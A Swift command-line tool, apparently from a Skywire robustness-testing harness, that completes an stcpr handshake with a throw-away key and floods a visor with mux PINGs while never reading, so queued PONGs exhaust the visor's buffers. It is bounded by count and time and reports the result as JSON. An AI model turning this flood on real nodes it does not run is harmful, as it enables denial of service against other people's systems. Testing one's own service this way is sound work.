import ArgumentParser
#if canImport(Glibc)
import Glibc
#endif
import SkywireCrypto
import SkywireWire

/// `ping-flood`: completes an stcpr handshake as a throw-away key, then sends mux PINGs and
/// never reads a byte, so every PONG the visor owes it queues at the visor. Bounded by
/// `--count` PINGs and `--seconds`. Prints one JSON line: PINGs sent, whether the visor stopped
/// reading (sends stalled) and whether it closed the connection.
struct PingFlood: ParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "ping-flood",
        abstract: "stcpr handshake as a throw-away key, then PINGs without ever reading (bounded).")

    @Option(help: "The visor's stcpr address, IP:PORT.") var addr: String
    @Option(help: "The visor's public key (hex).") var pk: String
    @Option(help: "PINGs to send at most.") var count = 1_000_000
    @Option(help: "Seconds to run at most.") var seconds = 30.0
    @Option(help: "PINGs per send(2).") var batch = 256
    @Option(help: "SO_RCVBUF of the attacking socket (small: the visor's answers back up sooner).")
    var rcvbuf: Int32 = 4096

    func run() throws {
        let target = try HostileStcpr.address(addr)
        var link = try HostileStcpr(target: target, remote: try PublicKey(hex: pk), receiveBuffer: rcvbuf,
                                    sendTimeoutMillis: 200)
        defer { close(link.fd) }
        let start = HostileStcpr.now()
        var sent = 0, stalls = 0
        var closedBy: String?
        var opaque: UInt64 = 0
        var pending = ArraySlice<UInt8>()
        var inFlight = 0
        while sent < count, HostileStcpr.now() - start < seconds {
            if pending.isEmpty {
                inFlight = min(batch, count - sent)
                let frames = (0..<inFlight).map { _ -> MuxFrame<ArraySlice<UInt8>> in
                    opaque &+= 1
                    return .ping(opaque: opaque)
                }
                pending = ArraySlice(try link.records(frames))
            }
            switch link.send(&pending) {
            case .sent: sent += inFlight
            case .stalled: stalls += 1
            case .closed(let e): closedBy = String(cString: strerror(e))
            }
            if closedBy != nil { break }
            if stalls > 0, HostileStcpr.peerClosed(link.fd) { closedBy = "EOF"; break }
        }
        if closedBy == nil, HostileStcpr.peerClosed(link.fd) { closedBy = "EOF" }
        let elapsed = HostileStcpr.now() - start
        print(#"{"sent":\#(sent),"stalled_sends":\#(stalls),"closed":\#(closedBy != nil),"#
              + #""closed_by":"\#(closedBy ?? "")","seconds":\#((elapsed * 100).rounded() / 100)}"#)
    }
}
